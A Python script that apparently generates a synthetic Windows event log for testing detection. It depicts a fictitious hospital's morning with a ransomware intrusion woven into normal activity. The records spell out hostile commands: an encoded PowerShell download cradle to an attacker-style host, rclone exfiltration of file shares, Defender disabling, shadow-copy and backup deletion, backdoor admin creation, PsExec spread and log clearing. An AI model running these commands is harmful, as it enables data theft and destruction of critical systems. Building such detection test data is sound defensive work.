"""Generate ``hospital_morning.jsonl``: a fictitious hospital's morning with a ransomware attack.

Centre Hospitalier de Saint-Aurèle (domain ``CHSA``), 2026-11-20, 07:00-11:00 UTC: benign
background (logons, Outlook, Chrome, the EHR client, the PACS viewer, updates, the morning
backup, DNS, services) with a LockBit-style intrusion woven in (phishing, discovery, RDP brute
force, backdoor admin, PsExec/WMI spread to the PACS, lab, SQL, backup and file servers,
Defender off, backups destroyed, logs cleared, ransom notes), plus three malformed lines.
Events are flat NXLog-style JSON objects (``EventTime``, ``Hostname``, ``Channel``, ``EventID``,
``SourceName``, then the event data under their Windows names). Deterministic: rerunning it
(``python src/hygie/demo/generate_demo.py``) rewrites the same file.
"""

from __future__ import annotations

import base64
import json
import random
import uuid
from datetime import UTC, datetime, timedelta
from hashlib import sha256
from pathlib import Path
from typing import Any

SEED = 20261120
OUTPUT = Path(__file__).with_name("hospital_morning.jsonl")
START = datetime(2026, 11, 20, 7, 0, tzinfo=UTC)
END = START + timedelta(hours=4)
DOMAIN = "CHSA"
DOMAIN_SID = "S-1-5-21-3623811015-3361044348-30300820"
SYSMON = "Microsoft-Windows-Sysmon/Operational"
SYS32 = "C:\\Windows\\System32\\"
CMD = SYS32 + "cmd.exe"
PS = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
EXPLORER = "C:\\Windows\\explorer.exe"
SVCHOST = SYS32 + "svchost.exe"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
EHR = "C:\\Program Files (x86)\\Asclepios\\DPI\\AsclepiosClient.exe"
PACS = "C:\\Program Files\\RadView\\RadViewer.exe"
VEEAM = "C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\"
MPCMDRUN = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25100.9-0\\MpCmdRun.exe"
HOUSEKEEPING = [(MPCMDRUN, f'"{MPCMDRUN}" -SignatureUpdate -ScheduleJob'),
                (SYS32 + "usoclient.exe", "usoclient.exe StartScan")]
SYSTEM_USER = "NT AUTHORITY\\SYSTEM"
ENCRYPTOR = "C:\\Windows\\Temp\\svcupd.exe"

Event = dict[str, Any]

# Sysmon's OriginalFileName for the binaries the demo uses (default: the file name itself).
ORIGINAL_NAMES = {"cmd.exe": "Cmd.Exe", "powershell.exe": "PowerShell.EXE", "wmic.exe": "wmic.exe",
                  "vssadmin.exe": "VSSADMIN.EXE", "wbadmin.exe": "WBADMIN.EXE",
                  "psexec64.exe": "psexec.c", "nltest.exe": "nltestrk.exe"}
WARDS = {"URG": 10, "CARDIO": 5, "RAD": 5, "ACC": 5, "PHARMA": 3, "LAB": 4, "ADM": 6, "BLOC": 4}
NAMES = ["m.lefevre", "s.moreau", "a.benali", "c.rousseau", "l.fournier", "n.girard", "j.bonnet",
         "p.lambert", "e.fontaine", "h.mercier", "y.dupuis", "i.garnier"]
SITES = [("outlook.office365.com", "52.97.146.162"), ("www.has-sante.fr", "185.22.193.10"),
         ("dpi.chsa.local", "10.10.2.21"), ("www.vidal.fr", "151.101.2.132"),
         ("intranet.chsa.local", "10.10.2.40")]
SERVERS = {"PACS": "CHSA-SRV-PACS01", "LAB": "CHSA-SRV-LAB01", "SQL": "CHSA-SRV-SQL01",
           "VEEAM": "CHSA-SRV-VEEAM01", "FS": "CHSA-SRV-FS01", "EHR": "CHSA-SRV-EHR01"}
DC, RDS, PRINT = "CHSA-DC01", "CHSA-SRV-RDS01", "CHSA-SRV-PRINT01"
# The attackers' deploy.bat, one command per line (image, command line).
STOPPED = ["MSSQLSERVER", "SQLSERVERAGENT", "MSSQL$SIL", "SQLAgent$SIL", "SQLWriter", "SQLBrowser",
           "VeeamBackupSvc", "VeeamTransportSvc", "VeeamDeploySvc", "VeeamNFSSvc",
           "BackupExecRPCService", "AcrSch2Svc", "wbengine", "vss"]
DEPLOY_BAT = [
    (PS, 'powershell.exe -ep bypass -c "Set-MpPreference -DisableRealtimeMonitoring $true '
         '-DisableBehaviorMonitoring $true -DisableIOAVProtection $true -MAPSReporting 0"'),
    (SYS32 + "reg.exe", 'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" '
                        "/v DisableAntiSpyware /t REG_DWORD /d 1 /f"),
    *[(SYS32 + "net.exe", f'net stop "{name}" /y') for name in STOPPED],
    (SYS32 + "taskkill.exe", "taskkill /F /IM sqlservr.exe /IM Veeam.Backup.Manager.exe"),
    (SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
    (SYS32 + "wbem\\WMIC.exe", "wmic.exe shadowcopy delete /nointeractive"),
    (PS, 'powershell.exe -c "Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }"'),
    (SYS32 + "bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled No"),
    (SYS32 + "bcdedit.exe", "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures"),
    (SYS32 + "wbadmin.exe", "wbadmin.exe delete catalog -quiet"),
    (SYS32 + "wbadmin.exe", "wbadmin.exe delete systemstatebackup -keepVersions:0 -quiet"),
    (ENCRYPTOR, f"{ENCRYPTOR} -pass 6f1d3c9a0b7e4f2d8c5a1e9b3d7f0a24"),
]
NOTE_FOLDERS = ["D:\\Data", "D:\\Exports", "D:\\Archives", "C:\\Users\\Public\\Documents",
                "D:\\Partage\\Qualite", "D:\\Partage\\Direction", "E:\\SQLBackup"]
PATIENT_ZERO, PATIENT_ZERO_IP, VICTIM = "CHSA-WS-URG-014", "10.12.4.114", f"{DOMAIN}\\m.lefevre"
ADM, BACKDOOR, PD = f"{DOMAIN}\\adm-tech2", f"{DOMAIN}\\svc_sauvegarde", "C:\\ProgramData\\"
SCANNER = "C:\\Users\\m.lefevre\\AppData\\Local\\Temp\\Adv IP Scanner\\advanced_ip_scanner.exe"
AF, NET = "C:\\Users\\Public\\Libraries\\af.exe", SYS32 + "net.exe"
# The intruders' commands typed by hand: (h, m, s), host, account, image, command line, and the
# OriginalFileName when they renamed the tool.
PLAYBOOK: list[tuple[tuple[int, ...], str, str, str, str, str | None]] = [
    ((7, 55, 3), PATIENT_ZERO, VICTIM, NET, 'net group "Admins du domaine" /domain', None),
    ((7, 55, 40), PATIENT_ZERO, VICTIM, SYS32 + "nltest.exe", f"nltest /dclist:{DOMAIN}", None),
    ((7, 58, 2), PATIENT_ZERO, VICTIM, AF, 'af.exe -f "(objectcategory=computer)" -csv name',
     "AdFind.exe"),
    ((7, 58, 31), PATIENT_ZERO, VICTIM, AF, "af.exe -gcb -sc trustdmp", "AdFind.exe"),
    ((8, 2, 0), PATIENT_ZERO, VICTIM, SCANNER, f'"{SCANNER}" /portable "C:/Users/Public/"', None),
    ((8, 20, 4), RDS, ADM, NET, "net user svc_sauvegarde Sauvegarde!2026 /add /domain", None),
    ((8, 20, 40), RDS, ADM, NET, 'net group "Admins du domaine" svc_sauvegarde /add /domain', None),
    ((8, 21, 15), RDS, ADM, NET, "net localgroup Administrateurs svc_sauvegarde /add", None),
    ((8, 31, 0), RDS, BACKDOOR, PD + "sh.exe", f"{PD}sh.exe -c All --ZipFileName chsa.zip "
     f"--OutputDirectory {PD}", "SharpHound.exe"),
    *[(when, RDS, BACKDOOR, PD + "rclone.exe", f'{PD}rclone.exe copy "\\\\CHSA-SRV-FS01\\{share}" '
       f"mega:chsa/{share} -q --ignore-existing --auto-confirm --multi-thread-streams 12 "
       "--transfers 12", None) for when, share in (((8, 46, 0), "Direction"), ((8, 58, 0), "RH"),
                                                    ((9, 12, 0), "Archives"))],
    ((9, 41, 0), DC, BACKDOOR, PS, "powershell.exe -c \"Get-ADComputer -Filter * -SearchBase "
     "'OU=Serveurs,DC=chsa,DC=local' | ForEach-Object { Invoke-GPUpdate -Computer $_.Name "
     '-Force -RandomDelayInMinutes 0 }"', None),
    ((9, 50, 0), RDS, BACKDOOR, PD + "PsExec64.exe", f"{PD}PsExec64.exe -accepteula @{PD}srv.txt "
     f"-s -d -c -f {PD}deploy.bat", None),
    ((10, 4, 0), RDS, BACKDOOR, SYS32 + "wbem\\WMIC.exe", "wmic /node:CHSA-SRV-EHR01 process call "
     'create "cmd.exe /c C:\\Windows\\Temp\\deploy.bat"', "wmic.exe"),
]


def at(hour: int, minute: int, second: int = 0) -> datetime:
    """A time of the demo morning."""
    return START.replace(hour=hour, minute=minute, second=second)


class EventFactory:
    """Builds flat events of the few kinds the demo needs, in ``self.events``."""

    def __init__(self, seed: int = SEED) -> None:
        self.rng = random.Random(seed)
        self.events: list[Event] = []
        self._pid = 3000

    def emit(self, t: datetime, host: str, channel: str, event_id: int, provider: str,
             **data: Any) -> Event:
        """Record one event (time as NXLog writes it: ISO 8601 UTC, Z) and return it."""
        self.events.append({"EventTime": t.strftime("%Y-%m-%dT%H:%M:%SZ"), "Hostname": host,
                            "Channel": channel, "EventID": event_id, "SourceName": provider,
                            **data})
        return self.events[-1]

    def guid(self) -> str:
        return f"{{{uuid.UUID(int=self.rng.getrandbits(128), version=4)}}}"

    def sysmon(self, t: datetime, host: str, event_id: int, **data: Any) -> Event:
        return self.emit(t, host, SYSMON, event_id, "Microsoft-Windows-Sysmon", RuleName="-",
                         ProcessGuid=self.guid(), **data)

    def proc(self, t: datetime, host: str, user: str, image: str, command: str,
             parent: str = EXPLORER, parent_command: str | None = None,
             integrity: str = "Medium", original: str | None = None, **extra: Any) -> Event:
        """Sysmon 1: process creation."""
        self._pid += self.rng.randint(4, 400)
        name, short, system = image.rsplit("\\")[-1], user.rsplit("\\")[-1], user == SYSTEM_USER
        home = "C:\\Windows\\system32\\" if system else f"C:\\Users\\{short}\\"
        return self.sysmon(
            t, host, 1, ProcessId=self._pid, Image=image, CommandLine=command,
            OriginalFileName=original or ORIGINAL_NAMES.get(name.lower(), name),
            CurrentDirectory=home, User=user, IntegrityLevel="System" if system else integrity,
            Hashes="SHA256=" + sha256(image.lower().encode()).hexdigest().upper(),
            ParentImage=parent, ParentCommandLine=parent_command or parent, **extra)

    def file(self, t: datetime, host: str, image: str, target: str) -> Event:  # Sysmon 11
        return self.sysmon(t, host, 11, Image=image, TargetFilename=target)

    def reg(self, t: datetime, host: str, image: str, key: str, value: str) -> Event:  # Sysmon 13
        return self.sysmon(t, host, 13, EventType="SetValue", Image=image, TargetObject=key,
                           Details=value)

    def dns(self, t: datetime, host: str, image: str, name: str, answer: str) -> Event:  # 22
        return self.sysmon(t, host, 22, QueryName=name, QueryStatus="0",
                           QueryResults=f"::ffff:{answer};", Image=image)

    def script(self, t: datetime, host: str, text: str, path: str = "") -> Event:
        """PowerShell 4104: script block logged."""
        return self.emit(t, host, "Microsoft-Windows-PowerShell/Operational", 4104,
                         "Microsoft-Windows-PowerShell", MessageNumber="1", MessageTotal="1",
                         ScriptBlockText=text, ScriptBlockId=self.guid()[1:-1], Path=path)

    def security(self, t: datetime, host: str, event_id: int, **data: Any) -> Event:
        return self.emit(t, host, "Security", event_id, "Microsoft-Windows-Security-Auditing",
                         **data)

    def logon(self, t: datetime, host: str, user: str, logon_type: int, ip: str,
              workstation: str = "-", event_id: int = 4624) -> Event:
        """Security 4624 (or 4625 with ``event_id``): an account logon."""
        result = ({"Status": "0xc000006d", "SubStatus": "0xc000006a"} if event_id == 4625 else
                  {"LogonProcessName": "User32" if logon_type in (2, 10) else "NtLmSsp"})
        return self.security(t, host, event_id, TargetUserName=user, TargetDomainName=DOMAIN,
                             LogonType=str(logon_type), WorkstationName=workstation, IpAddress=ip,
                             IpPort=str(self.rng.randint(49152, 65535)), **result)


class HospitalMorning(EventFactory):
    """The demo: background activity of the hospital plus the intrusion."""

    def __init__(self, seed: int = SEED) -> None:
        super().__init__(seed)
        self.workstations: list[tuple[str, str, str]] = []  # host, user, ip
        for ward, count in WARDS.items():
            for n in range(1, count + 1):
                user = self.rng.choice(NAMES) + str(self.rng.randint(1, 99))
                ip = f"10.12.{len(self.workstations) // 50 + 4}.{100 + len(self.workstations)}"
                self.workstations.append((f"CHSA-WS-{ward}-{n:03d}", user, ip))
        self.workstations[0] = (PATIENT_ZERO, "m.lefevre", PATIENT_ZERO_IP)

    def when(self, lo: datetime, hi: datetime) -> datetime:
        return lo + timedelta(seconds=self.rng.randint(0, int((hi - lo).total_seconds())))

    # -- background ---------------------------------------------------------------------------
    def workstation_day(self, host: str, user: str, ip: str) -> None:
        """A clinician's session: logon, Outlook, the EHR, Chrome, PACS, Office, file shares."""
        ward, account = host.split("-")[2], f"{DOMAIN}\\{user}"
        t = self.when(START, at(7, 40))
        if self.rng.random() < 0.15:  # a typo first: one failed logon, far below any threshold
            self.logon(t - timedelta(seconds=20), host, user, 2, "127.0.0.1", host, 4625)
        self.logon(t, host, user, 2, "127.0.0.1", host)
        self.proc(t + timedelta(seconds=9), host, account, OFFICE + "OUTLOOK.EXE",
                  f'"{OFFICE}OUTLOOK.EXE"')
        self.proc(t + timedelta(seconds=15), host, account, EHR, f'"{EHR}" /site:CHSA')
        while t < END - timedelta(minutes=20):
            t += timedelta(minutes=self.rng.randint(6, 25), seconds=self.rng.randint(0, 59))
            later, roll = t + timedelta(seconds=3), self.rng.random()
            if roll < 0.3:
                self.proc(t, host, account, CHROME, f'"{CHROME}"')
                self.dns(later, host, CHROME, *self.rng.choice(SITES))
            elif roll < 0.5:
                patient = self.rng.randint(10**6, 10**7)
                self.proc(t, host, account, EHR, f'"{EHR}" /site:CHSA /patient:{patient}')
                self.dns(later, host, EHR, "dpi.chsa.local", "10.10.2.21")
            elif roll < 0.62 and ward in ("RAD", "URG", "BLOC", "CARDIO"):
                study = self.rng.randint(10**5, 10**6)
                self.proc(t, host, account, PACS, f'"{PACS}" -study {study}')
                self.file(later, host, PACS, f"C:\\Users\\{user}\\AppData\\Local\\RadView\\cache"
                                             f"\\{study}.dcm")
            elif roll < 0.75:
                doc = self.rng.choice(["Planning_equipe.docx", "Protocole_soins.docx", "CR.docx"])
                self.proc(t, host, account, OFFICE + "WINWORD.EXE", f'"{OFFICE}WINWORD.EXE" /n '
                          f'"\\\\CHSA-SRV-FS01\\Services\\{ward}\\{doc}"')
            elif roll < 0.85:  # Excel printing: splwow64 is Excel's child, not a shell
                self.proc(t, host, account, OFFICE + "EXCEL.EXE", f'"{OFFICE}EXCEL.EXE"')
                self.proc(later, host, account, SYS32 + "splwow64.exe",
                          SYS32 + "splwow64.exe 8192", parent=OFFICE + "EXCEL.EXE")
            else:
                self.security(t, SERVERS["FS"], 4624, TargetUserName=user, LogonType="3",
                              TargetDomainName=DOMAIN, IpAddress=ip, WorkstationName=host,
                              LogonProcessName="Kerberos", AuthenticationPackageName="Kerberos")

    def servers_day(self) -> None:
        """Backups finishing, service logons, Defender and Windows updates."""
        manager = VEEAM + "Veeam.Backup.Manager.exe"
        for minute in range(0, 40, 4):  # the nightly job's last incrementals
            t, target = at(7, minute, 12), self.rng.choice(list(SERVERS.values()))
            self.proc(t, SERVERS["VEEAM"], f"{DOMAIN}\\svc-veeam", manager, f'"{manager}" '
                      f'startbackupjob /jobname:"Srv-{target}"',
                      parent=VEEAM + "Veeam.Backup.Service.exe")
            self.file(t + timedelta(minutes=2), SERVERS["VEEAM"], VEEAM + "VeeamAgent.exe",
                      f"E:\\Backups\\{target}\\{target}D2026-11-20T07{minute:02d}.vib")
            self.logon(t, target, "svc-veeam", 3, "10.10.3.20", SERVERS["VEEAM"])
        self.script(at(7, 1), SERVERS["VEEAM"], "Get-VBRJob | Where-Object { $_.IsScheduleEnabled }"
                    " | Select-Object Name, LatestStatus", "C:\\Scripts\\rapport-sauvegarde.ps1")
        for server in [*SERVERS.values(), DC, RDS, "CHSA-DC02", PRINT]:
            t = START + timedelta(minutes=self.rng.randint(0, 9))
            while t < END:
                roll = self.rng.random()
                if roll < 0.45:
                    self.logon(t, server, self.rng.choice(["svc-sql", "svc-supervision"]), 3,
                               f"10.10.{self.rng.randint(2, 3)}.{self.rng.randint(10, 60)}")
                elif roll < 0.65:
                    state = self.rng.choice(["running", "stopped"])
                    self.emit(t, server, "System", 7036, "Service Control Manager",
                              param1="Windows Update", param2=state)
                else:  # Defender signature updates and Windows Update scans
                    image, line = self.rng.choice(HOUSEKEEPING)
                    self.proc(t, server, SYSTEM_USER, image, line, parent=SVCHOST,
                              parent_command=SVCHOST + " -k netsvcs -p")
                t += timedelta(minutes=self.rng.randint(3, 11), seconds=self.rng.randint(0, 59))

    def admin_routine(self) -> None:
        """Near misses: an administrator's ordinary commands, which must not raise alerts."""
        host, adm = "CHSA-WS-ADM-001", f"{DOMAIN}\\adm-jdupont"
        self.logon(at(7, 50), host, "adm-jdupont", 2, "127.0.0.1", host)
        for minute, image, line in [(52, "vssadmin.exe", "vssadmin list shadows /for=C:"),
                                    (53, "net.exe", "net user n.girard12 /domain"),
                                    (55, "wevtutil.exe", "wevtutil qe System /c:20 /f:text"),
                                    (58, "nltest.exe", f"nltest /sc_query:{DOMAIN}")]:
            self.proc(at(9, minute), host, adm, SYS32 + image, line, parent=CMD, integrity="High")
        self.logon(at(10, 5), PRINT, "adm-jdupont", 10, "10.12.4.150", host)
        for second, verb in ((10, "stop"), (40, "start")):
            self.proc(at(10, 6, second), PRINT, adm, SYS32 + "net.exe", f"net {verb} spooler",
                      parent=CMD, integrity="High")
        self.script(at(10, 8), host, "Get-MpComputerStatus | Select-Object AMServiceEnabled")

    # -- the intrusion ------------------------------------------------------------------------
    def intrusion(self) -> None:
        """Phishing on an emergency-ward PC at 07:41, encryption of the servers from 09:50."""
        word, lib = OFFICE + "WINWORD.EXE", "C:\\Users\\Public\\Libraries\\"
        doc = ("C:\\Users\\m.lefevre\\AppData\\Local\\Microsoft\\Windows\\INetCache\\"
               "Content.Outlook\\K2R8QF1Z\\Planning_gardes_decembre.docm")
        stager = "IEX (New-Object Net.WebClient).DownloadString('https://cdn-msupdate.net/s/a1')"
        encoded = base64.b64encode(stager.encode("utf-16-le")).decode()
        opened = f'"{word}" /n "{doc}" /o ""'
        self.file(at(7, 41, 5), PATIENT_ZERO, OFFICE + "OUTLOOK.EXE", doc)
        self.proc(at(7, 41, 30), PATIENT_ZERO, VICTIM, word, opened, parent=OFFICE + "OUTLOOK.EXE")
        self.proc(at(7, 41, 52), PATIENT_ZERO, VICTIM, PS, f"powershell.exe -nop -w hidden -enc "
                  f"{encoded}", parent=word, parent_command=opened)
        self.script(at(7, 41, 53), PATIENT_ZERO, stager)
        self.dns(at(7, 41, 54), PATIENT_ZERO, PS, "cdn-msupdate.net", "91.215.85.142")
        self.file(at(7, 42, 10), PATIENT_ZERO, PS, lib + "msupd.dll")
        self.proc(at(7, 42, 15), PATIENT_ZERO, VICTIM, SYS32 + "rundll32.exe",
                  f"rundll32.exe {lib}msupd.dll,DllRegisterServer", parent=PS)
        for when, host, user, image, line, original in PLAYBOOK:
            self.proc(at(*when), host, user, image, line, parent=CMD, integrity="High",
                      parent_command=f"{CMD} /C {line}", original=original)
        # RDP brute force against the jump server from the infected PC, then a success.
        accounts, t = ["administrateur", "adm-tech", "adm-tech2", "admin", "sauvegarde"], at(8, 10)
        for n in range(36):
            self.logon(t, RDS, accounts[n % len(accounts)], 3, PATIENT_ZERO_IP, PATIENT_ZERO, 4625)
            t += timedelta(seconds=self.rng.randint(3, 7))
        self.logon(t + timedelta(seconds=20), RDS, "adm-tech2", 10, PATIENT_ZERO_IP, PATIENT_ZERO)
        self.backdoor_account()
        policy = ("C:\\Windows\\SYSVOL\\domain\\Policies\\{8A3F6D21-5C4B-4E7A-9B1D-2F6C0E8A4B37}"
                  "\\Machine\\")
        for n, path in enumerate(["Preferences\\Files\\Files.xml", "Scripts\\Startup\\svcupd.exe",
                                  "Preferences\\ScheduledTasks\\ScheduledTasks.xml"]):
            self.file(at(9, 40, 5 * n), DC, "System", policy + path)
        psexesvc = "C:\\Windows\\PSEXESVC.exe"
        for n, server in enumerate(s for key, s in SERVERS.items() if key != "EHR"):
            t = at(9, 50, 30) + timedelta(minutes=2 * n)
            self.emit(t, server, "System", 7045, "Service Control Manager", ServiceName="PSEXESVC",
                      ImagePath="%SystemRoot%\\PSEXESVC.exe", ServiceType="user mode service",
                      StartType="demand start", AccountName="LocalSystem")
            self.proc(t + timedelta(seconds=1), server, SYSTEM_USER, psexesvc, psexesvc,
                      parent=SYS32 + "services.exe", original="psexesvc.exe")
            self.encrypt(t + timedelta(seconds=2), server, psexesvc, "C:\\Windows\\deploy.bat")
        self.encrypt(at(10, 4, 2), SERVERS["EHR"], SYS32 + "wbem\\WmiPrvSE.exe",
                     "C:\\Windows\\Temp\\deploy.bat")

    def backdoor_account(self) -> None:
        """The Security events of the backdoor domain admin created from the jump server."""
        sid = f"{DOMAIN_SID}-4721"
        subject = {"SubjectUserName": "adm-tech2", "SubjectDomainName": DOMAIN}
        self.security(at(8, 20, 5), DC, 4720, TargetUserName="svc_sauvegarde", TargetSid=sid,
                      TargetDomainName=DOMAIN, SamAccountName="svc_sauvegarde", **subject)
        self.security(at(8, 20, 41), DC, 4728, TargetUserName="Admins du domaine", MemberSid=sid,
                      TargetDomainName=DOMAIN, TargetSid=f"{DOMAIN_SID}-512",
                      MemberName="CN=svc_sauvegarde,CN=Users,DC=chsa,DC=local", **subject)
        self.security(at(8, 21, 16), RDS, 4732, TargetUserName="Administrateurs", MemberName="-",
                      TargetDomainName="Builtin", TargetSid="S-1-5-32-544", MemberSid=sid,
                      **subject)
        self.logon(at(8, 24), RDS, "svc_sauvegarde", 10, PATIENT_ZERO_IP, PATIENT_ZERO)

    def encrypt(self, t: datetime, host: str, parent: str, batch: str) -> None:
        """What deploy.bat does on one server: defences off, backups gone, encrypt, wipe logs."""
        shell = f"cmd.exe /c {batch}"
        self.proc(t, host, SYSTEM_USER, CMD, shell, parent=parent)
        for step, (image, line) in enumerate(DEPLOY_BAT, 1):
            s = t + timedelta(seconds=2 * step)
            self.proc(s, host, SYSTEM_USER, image, line, parent=CMD, parent_command=shell)
            if image == PS:
                self.script(s, host, line.split("-c ", 1)[1].strip('"'))
            elif image.endswith("reg.exe"):
                self.reg(s, host, image, "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender"
                         "\\DisableAntiSpyware", "DWORD (0x00000001)")
        t += timedelta(seconds=2 * len(DEPLOY_BAT) + 5)
        for n in range(22):  # LockBit 3.0 names its note after the random extension it appends
            folder = f"{NOTE_FOLDERS[n % len(NOTE_FOLDERS)]}\\{2019 + n // len(NOTE_FOLDERS)}"
            self.file(t + timedelta(seconds=2 * n), host, ENCRYPTOR,
                      f"{folder}\\Dx3kQ9pLm.README.txt")
        t += timedelta(seconds=60)
        for n, log in enumerate(("Security", "System", "Application")):
            self.proc(t + timedelta(seconds=n), host, SYSTEM_USER, SYS32 + "wevtutil.exe",
                      f"wevtutil.exe cl {log}", parent=CMD, parent_command=shell)
        cleared = {"SubjectUserName": f"{host}$", "SubjectDomainName": DOMAIN}
        self.emit(t + timedelta(seconds=1), host, "Security", 1102, "Microsoft-Windows-Eventlog",
                  Message="The audit log was cleared.", **cleared)
        for n, log in enumerate(("System", "Application"), 2):
            self.emit(t + timedelta(seconds=n), host, "System", 104, "Microsoft-Windows-Eventlog",
                      BackupPath="", Message=f"The {log} log file was cleared.", **cleared)

    def build(self) -> list[str]:
        """All lines of the data set, time-ordered, with three malformed ones slipped in."""
        for host, user, ip in self.workstations:
            self.workstation_day(host, user, ip)
        self.servers_day()
        self.admin_routine()
        self.intrusion()
        ordered = sorted(self.events, key=lambda e: e["EventTime"])
        lines = [json.dumps(e, ensure_ascii=False, separators=(",", ":")) for e in ordered]
        lines[400] = lines[400][: len(lines[400]) * 3 // 5]  # cut short: collector's disk was full
        lines[1700] += lines[1701][:90]  # a lost newline glued two records, the second one cut
        lines.insert(1200, "2026-11-20 09:14:07 ERROR [im_msvistalog] failed to subscribe to "
                           "Microsoft-Windows-Sysmon/Operational: the channel could not be found.")
        return lines


def main() -> None:
    lines = HospitalMorning(SEED).build()
    OUTPUT.write_text("\n".join(lines) + "\n", encoding="utf-8")
    print(f"wrote {len(lines)} lines to {OUTPUT}")


if __name__ == "__main__":
    main()
